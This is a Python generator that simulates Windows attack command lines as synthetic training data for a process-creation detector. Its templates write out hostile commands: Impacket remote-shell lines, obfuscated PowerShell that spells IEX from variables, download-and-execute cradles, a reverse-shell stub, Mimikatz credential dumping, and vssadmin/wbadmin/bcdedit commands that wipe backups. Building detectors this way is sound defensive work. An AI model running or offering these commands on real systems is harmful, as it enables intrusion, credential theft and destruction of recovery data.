"""Simulated Windows attacks seen as lone commands, part 3: remote shells' commands, PowerShell that
builds the command it runs, content downloaded and run in one line, and (feature version 1.3) system
recovery inhibited: shadow copies, backups and boot recovery removed (T1490).

Why: single-technique recordings of these show one or two process creations and little else. An
Impacket-style remote shell (wmiexec, smbexec, atexec, dcomexec) runs each command as `cmd.exe /Q /c`
with its output sent to a loopback admin share or a Windows\\Temp file; an Invoke-Obfuscation launcher
hides `IEX` in characters of `$env:ComSpec`, `$PSHome`, `$ShellId` or `$VerbosePreference` and feeds it
text decoded from character codes; a download cradle fetches a script into `IEX` or a file that the
same line then starts. Each generator is written from the public descriptions of its technique id
(MITRE ATT&CK T1047, T1021.002/003, T1569.002, T1053.005, T1027.010, T1059.001, T1105; the Impacket
examples' and Invoke-Obfuscation's documentation; LOLBAS entries for bitsadmin and certutil) with
names, addresses, paths, casing, separators and quoting drawn at random. Drawn with `win_lone2`'s
(`simulate.lone_view_techniques`), so they train the process-creation view's booster only; their benign
counterparts (agents' encoded scripts, package bootstraps, string-building scripts, installers' quiet
batch files) are in `win_benign_lone3`.
"""

from __future__ import annotations

from pipeline.training.sim.builder import Proc
from pipeline.training.sim.catalog import Registry
from pipeline.training.sim.session import Session
from pipeline.training.sim.vocab import Rand, powershell, sys32
from pipeline.training.sim.win_lone import _integrity, lone_entry
from pipeline.training.sim.win_lone2 import SYSTEM
from schemas.events import Platform

REG = Registry(Platform.WINDOWS)
add = REG.add

# --- shared helpers ------------------------------------------------------------------------------


def mixed_case(r: Rand, text: str, p: float = 0.5) -> str:
    """Each letter upper or lower at random, as obfuscators print keywords (`iNvOkE-eXpReSsIoN`)."""
    return "".join(c.upper() if c.isalpha() and r.chance(p) else c.lower() for c in text)


def lone_ps(s: Session, script: str, *, parent: Proc | None = None, encoded: float = 0.3, via_shell: float = 0.3,
            attack: bool | None = None, user: str | None = None, integrity: str | None = None) -> Proc:
    """PowerShell started with `script` on its command line (plain or -EncodedCommand) and, unlike
    `Session.ps`, rarely a script-block event: the process-creation view."""
    r = s.r
    flags = r.pick(("-nop -w hidden", "-NoP -NonI -W Hidden -Exec Bypass", "-exec bypass -noni -nop -w 1",
                    "-ep bypass", "", "-noni -nop", "-NoProfile -ExecutionPolicy Bypass", "-w 1 -nop"))
    if r.chance(encoded):
        body = f"{r.pick(('-enc', '-EncodedCommand', '-e', '-ec', '-En'))} {r.ps_enc(script)}"
    else:
        body = f'{r.pick(("-c", "-Command", "-C", ""))} "{script}"'
    exe = r.pick(("powershell.exe", "powershell", "PowerShell.exe", powershell(r)))
    proc = s.run(powershell(r), f"{exe} {flags} {body}".replace("  ", " "), parent=parent, via_shell=via_shell,
                 attack=attack, user=user, integrity=integrity or _integrity(r))
    if r.chance(0.1):
        s.b.script(proc, script, "powershell")
    return proc


def url(r: Rand, ext: str) -> str:
    """Where a payload is fetched from: a raw address, a domain, a paste or a code host."""
    host = r.pick((r.ext_ip(), r.ext_ip(), r.int_ip(), r.domain(), f"{r.ext_ip()}:{r.pick((8080, 8000, 443, 8443))}"))
    path = r.pick((r.name(ext), f"{r.token(1, 6)}/{r.name(ext)}", r.token(4, 10), f"static/{r.name(ext)}"))
    if r.chance(0.15):
        return f"https://raw.githubusercontent.com/{r.token(4, 10)}/{r.token(4, 10)}/master/{r.name(ext)}"
    if r.chance(0.1):
        return f"https://pastebin.com/raw/{r.token(8, 8, 'abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ0123456789')}"
    return f"{r.pick(('http', 'http', 'https'))}://{host}/{path}"


# --- remote shells ------------------------------------------------------------------------------

_REMOTE_COMMANDS = ("whoami", "whoami /all", "hostname", "ipconfig /all", "net user", "net localgroup administrators",
                    "cd", "dir C:\\Users", "tasklist", "systeminfo", "type C:\\Windows\\win.ini", "quser", "netstat -ano",
                    "query user", "net group \"domain admins\" /domain", "nltest /domain_trusts", "arp -a",
                    "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "wmic process list brief")


def _remote_command(s: Session) -> str:
    r = s.r
    if r.chance(0.15):
        return f"{s.wdir()}\\{r.name('exe')}"
    if r.chance(0.1):
        return f"powershell -nop -enc {r.b64(40, 200)}"
    return r.pick(_REMOTE_COMMANDS)


def _timestamp(r: Rand) -> str:
    return f"{r.num(1_500_000_000, 1_800_000_000)}.{r.num(10, 9999999)}"


@add("T1569.002", "Execution", entry=lone_entry, weight=2)
def lone_smbexec(s: Session) -> None:
    """Impacket smbexec: the service it creates runs `%COMSPEC% /Q /c echo CMD ^> \\\\HOST\\C$\\__output
    2^>^&1 > DIR\\NAME.bat & %COMSPEC% /Q /c DIR\\NAME.bat & del DIR\\NAME.bat` (older releases: the
    loopback address, %TEMP% and `execute.bat`; newer: %COMPUTERNAME%, %SYSTEMROOT% and eight random
    letters); the first shell is not always in the recording, its child `cmd.exe /Q /c DIR\\NAME.bat` is."""
    b, r = s.b, s.r
    services = b.existing(sys32(r, "services.exe"), user=SYSTEM)
    cmd = sys32(r, "cmd.exe")
    comspec = r.pick(("%COMSPEC%", "C:\\Windows\\system32\\cmd.exe", "%comspec%"))
    if r.chance(0.5):
        host, temp, expanded = "127.0.0.1", r.pick(("%TEMP%", "C:\\Windows\\TEMP")), "C:\\Windows\\TEMP"
        bat = r.pick(("execute.bat", "execute.bat", f"{r.token(8, 8)}.bat"))
    else:
        host, temp, expanded = r.pick(("%COMPUTERNAME%", r.host().upper())), "%SYSTEMROOT%", "C:\\Windows"
        bat = f"{r.token(8, 8, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz')}.bat"
    share = r.pick(("C$", "C$", "ADMIN$"))
    for _ in range(r.num(1, 3)):
        command = _remote_command(s)
        first = (f"{comspec} /Q /c echo {command} ^> \\\\{host}\\{share}\\__output 2^>^&1 > {temp}\\{bat} & "
                 f"{comspec} /Q /c {temp}\\{bat} & del {temp}\\{bat}")
        if r.chance(0.7):
            parent = b.spawn(services, cmd, first, user=SYSTEM, integrity="System")
        else:
            parent = b.existing(cmd, user=SYSTEM, attack=True)
        s.run(cmd, f"C:\\Windows\\system32\\cmd.exe  /Q /c {expanded}\\{bat} ", parent=parent, user=SYSTEM,
              integrity="System")


@add("T1053.005", "Execution", entry=lone_entry)
def lone_atexec(s: Session) -> None:
    """Impacket atexec: a scheduled task runs `cmd.exe /C CMD > %windir%\\Temp\\XXXXXXXX.tmp 2>&1` as
    SYSTEM, started by the Task Scheduler's service host."""
    b, r = s.b, s.r
    host = b.existing(sys32(r, r.pick(("svchost.exe", "svchost.exe", "taskeng.exe"))), user=SYSTEM)
    out = r.pick(("%windir%\\Temp", "C:\\Windows\\Temp", "C:\\Windows\\TEMP"))
    for _ in range(r.num(1, 2)):
        line = f"cmd.exe /C {_remote_command(s)} > {out}\\{r.token(8, 8, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz')}.tmp 2>&1"
        s.run(sys32(r, "cmd.exe"), line, parent=host, user=SYSTEM, integrity="System")


@add("T1021.003", "Execution", entry=lone_entry)
def lone_dcomexec(s: Session) -> None:
    """Impacket dcomexec: MMC20.Application, ShellWindows or ShellBrowserWindow runs `cmd.exe /Q /c
    CMD 1> \\\\127.0.0.1\\ADMIN$\\__TS 2>&1` under mmc.exe or Explorer."""
    b, r = s.b, s.r
    if r.chance(0.5):
        host = b.existing(sys32(r, "mmc.exe"), user=r.domain_user(s.user))
    else:
        host = b.existing(r.case("C:\\Windows\\explorer.exe"), user=r.domain_user(s.user))
    for _ in range(r.num(1, 3)):
        shell = r.pick(("cmd.exe", "C:\\Windows\\system32\\cmd.exe"))
        line = f"{shell} /Q /c {_remote_command(s)} 1> \\\\127.0.0.1\\ADMIN$\\__{_timestamp(r)} 2>&1"
        s.run(sys32(r, "cmd.exe"), line, parent=host, integrity="High")


# --- PowerShell that builds what it runs -------------------------------------------------------

_INNER = ("IEX (New-Object Net.WebClient).DownloadString('{url}')", "iex(iwr -useb '{url}')",
          "[Net.ServicePointManager]::ServerCertificateValidationCallback = {{$true}};IEX (New-Object Net.WebClient).DownloadString('{url}')",
          "$c=New-Object Net.Sockets.TCPClient('{ip}',{port});$s=$c.GetStream()",
          "Start-Process '{path}' -WindowStyle Hidden", "Invoke-Mimikatz -Command 'privilege::debug sekurlsa::logonpasswords exit'",
          "$d=(New-Object Net.WebClient).DownloadData('{url}');[Reflection.Assembly]::Load($d)")


def _inner(s: Session) -> str:
    r = s.r
    return r.pick(_INNER).format(url=url(r, "ps1"), ip=r.ext_ip(), port=r.pick((443, 4444, 8080, 53)),
                                 path=f"{s.wdir()}\\{r.name('exe')}")


def _codes(r: Rand, text: str) -> tuple[str, str]:
    """`text` as character codes joined by random separators, and the separators (for -split)."""
    seps = "".join(r.sample(list("@AGkTfSH,%_~:;"), r.num(1, 6)))
    return "".join(f"{ord(c)}{r.pick(seps)}" for c in text)[:-1], seps


def _iex_spelled(r: Rand) -> str:
    """IEX spelled from characters of automatic variables, as Invoke-Obfuscation's launchers do."""
    return r.pick((
        f"$env:ComSpec[4,{r.pick((15, 24, 26))},25]-Join''", "$PSHome[4]+$PSHome[30]+'x'", "$PSHome[21]+$PSHome[30]+'x'",
        "$ShellId[1]+$ShellId[13]+'x'", "$VerbosePreference.ToString()[1,3]+'x'-Join''",
        "([String]''.Chars)[15,18,19]-Join''", "(Gv '*MDR*').Name[3,11,2]-Join''", "$env:Public[13]+$env:Public[5]+'x'",
        "[char]73+[char]69+[char]88", "[char]105+[char]101+[char]120"))


@add("T1027.010", "DefenseEvasion", entry=lone_entry, weight=3)
def lone_obfuscated_launch(s: Session) -> None:
    """An obfuscated PowerShell launcher: the payload as character codes (joined with random separators,
    split and cast back with `[char]`), or reversed, or reordered with `-f`, piped into IEX spelled from
    `$env:ComSpec[4,15,25]`, `$PSHome[..]`, `$ShellId[..]`, `$VerbosePreference` or `[char]` sums;
    started from a shell, WMI (CrackMapExec) or an implant."""
    r = s.r
    inner = _inner(s)
    spelled = _iex_spelled(r)
    style = r.rng.randrange(4)
    if style == 0:
        codes, seps = _codes(r, inner)
        body = f"-JOIN('{codes}'.Split('{seps}')|%{{([int]$_ -As [char])}})|.( {spelled})"
    elif style == 1:
        codes, _ = _codes(r, inner)
        codes = codes.translate(str.maketrans("@AGkTfSH%_~:;", ",,,,,,,,,,,,,"))
        body = f".( {spelled}) ([String]::Join('', (({codes}) | %{{ [char][int]$_ }})))"
    elif style == 2:
        rev = inner[::-1].replace("'", "''")
        body = f"&( {spelled}) ( ('{rev}')[-1..-{len(inner)}] -Join '')"
    else:
        cut = r.num(3, max(4, len(inner) - 3))
        a, c = inner[:cut].replace("'", "''"), inner[cut:].replace("'", "''")
        body = f"({spelled}) (('{{1}}{{0}}' -f '{c}','{a}'))"
    parent = None
    if r.chance(0.3):
        parent = s.b.existing(sys32(r, "wbem\\WmiPrvSE.exe"), user="NT AUTHORITY\\NETWORK SERVICE")
    lone_ps(s, mixed_case(r, body, r.pick((0.0, 0.3, 0.5))), parent=parent, encoded=0.25,
            via_shell=0.6 if parent is not None else 0.3)


# --- downloaded and run --------------------------------------------------------------------------


@add("T1105", "Execution", entry=lone_entry, weight=3)
def lone_fetch_and_run(s: Session) -> None:
    """A cradle fetched into IEX (`IEX (New-Object Net.WebClient).DownloadString(URL)`, `iwr URL | iex`,
    `irm URL | iex`, an XMLHTTP object), or a file fetched (WebClient.DownloadFile, Invoke-WebRequest
    -OutFile, bitsadmin /transfer, certutil -urlcache) and started in the same line."""
    r = s.r
    path = f"{s.wdir()}\\{r.name(r.pick(('exe', 'exe', 'dll', 'bat', 'hta', 'ps1')))}"
    u = url(r, path.rsplit(".", 1)[1])
    ext = path.rsplit(".", 1)[1]
    runner = {"dll": f"rundll32.exe {path},{r.pick(('Start', '#1', 'DllRegisterServer', 'Run'))}",
              "hta": f"mshta.exe {path}", "ps1": f"powershell -ep bypass -f {path}"}.get(ext, path)
    style = r.rng.randrange(7)
    if style <= 2:
        script = r.pick((
            "IEX (New-Object Net.WebClient).DownloadString('{u}')", "IEX(New-Object System.Net.WebClient).DownloadString(\"{u}\")",
            "iwr -useb {u} | iex", "Invoke-WebRequest -Uri {u} -UseBasicParsing | Invoke-Expression",
            "irm {u} | iex", "Invoke-Expression (Invoke-RestMethod -Uri '{u}')",
            "$h=New-Object -ComObject Msxml2.XMLHTTP;$h.open('GET','{u}',$false);$h.send();iex $h.responseText",
            "IEX ([Text.Encoding]::UTF8.GetString((New-Object Net.WebClient).DownloadData('{u}')))",
        )).format(u=u)
        if r.chance(0.3):
            script = mixed_case(r, script, 0.3)
        lone_ps(s, script, encoded=0.35)
    elif style <= 4:
        script = r.pick((
            "(New-Object Net.WebClient).DownloadFile('{u}','{p}');Start-Process '{p}'",
            "Invoke-WebRequest -Uri '{u}' -OutFile '{p}'; Start-Process '{p}'",
            "iwr {u} -OutFile {p}; & '{p}'", "(New-Object System.Net.WebClient).DownloadFile('{u}', '{p}'); Invoke-Item '{p}'",
            "Start-BitsTransfer -Source {u} -Destination {p}; Start-Process {p}",
        )).format(u=u, p=path)
        if ext in ("dll", "hta"):
            script = script.rsplit(";", 1)[0] + f"; {runner}"
        lone_ps(s, script, encoded=0.3)
    elif style == 5:
        job = r.pick((r.token(3, 8), "update", "job", "download", "myjob"))
        then = r.pick((f" & {runner}", f" && {runner}", f" & start {path}", f" && start \"\" {path}"))
        s.run(sys32(r, "cmd.exe"), f"cmd.exe /c bitsadmin /transfer {job} /download /priority {r.pick(('high', 'normal', 'foreground'))} {u} {path}{then}",
              integrity=_integrity(r))
    else:
        then = r.pick((f" & {runner}", f" && {runner}", f" & start {path}"))
        flags = r.pick(("-urlcache -split -f", "-urlcache -f", "-URLCache -Split -F", "-verifyctl -split -f -urlcache"))
        s.run(sys32(r, "cmd.exe"), f"cmd.exe /c certutil.exe {flags} {u} {path}{then}", integrity=_integrity(r))


# --- feature version 1.3: recovery inhibited (T1490) ---------------------------------------------

_INHIBIT = (
    ("vssadmin", "delete shadows /all /quiet"), ("vssadmin", "Delete Shadows /All /Quiet"),
    ("vssadmin", "delete shadows /for={drive} /all /quiet"), ("vssadmin", "resize shadowstorage /for={drive} /on={drive} /maxsize=401MB"),
    ("wmic", "shadowcopy delete /nointeractive"), ("wmic", "shadowcopy delete"),
    ("wbadmin", "delete catalog -quiet"), ("wbadmin", "DELETE SYSTEMSTATEBACKUP -keepVersions:0"),
    ("wbadmin", "delete backup -keepVersions:0 -quiet"),
    ("bcdedit", "/set {{default}} recoveryenabled No"), ("bcdedit", "/set {{default}} bootstatuspolicy ignoreallfailures"),
    ("bcdedit", "/set {{current}} recoveryenabled off"),
    ("ps", "Get-WmiObject Win32_Shadowcopy | ForEach-Object {{$_.Delete();}}"),
    ("ps", "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance"),
    ("ps", "Get-WmiObject Win32_ShadowCopy | Remove-WmiObject"),
)


@add("T1490", "Impact", entry=lone_entry, weight=2)
def lone_inhibit_recovery(s: Session) -> None:
    """T1490: what ransomware runs before it encrypts, as Security 4688 shows it: every shadow copy deleted
    (`vssadmin delete shadows /all /quiet`, `wmic shadowcopy delete`, Win32_ShadowCopy objects deleted from
    PowerShell), shadow storage shrunk until the copies go, the backup catalogue or every system-state backup
    deleted (`wbadmin`), and boot recovery switched off (`bcdedit ... recoveryenabled No`, `bootstatuspolicy
    ignoreallfailures`); one to three of them, sometimes chained in one `cmd /c` line (only that shell is
    simulated then, not the tools it starts: the line alone carries the indicator)."""
    r = s.r
    drive = r.pick(("c:", "C:", "D:"))
    steps = r.sample(_INHIBIT, r.pick((1, 1, 2, 3)))
    if len(steps) > 1 and all(exe != "ps" for exe, _ in steps) and r.chance(0.3):
        line = " & ".join(f"{exe} {args.format(drive=drive)}" for exe, args in steps)
        s.run(sys32(r, "cmd.exe"), f"cmd.exe /c {line}", integrity=r.pick(("High", "System")))
        return
    for exe, args in steps:
        text = args.format(drive=drive)
        if exe == "ps":
            lone_ps(s, text, encoded=0.2, integrity=r.pick(("High", "System")))
        else:
            image = sys32(r, "wbem\\WMIC.exe" if exe == "wmic" else f"{exe}.exe")
            typed = r.pick((exe, f"{exe}.exe", exe.upper(), image))
            s.run(image, f"{typed} {text}", via_shell=0.4, integrity=r.pick(("High", "High", "System")))
        s.b.tick(0.2, 5.0)
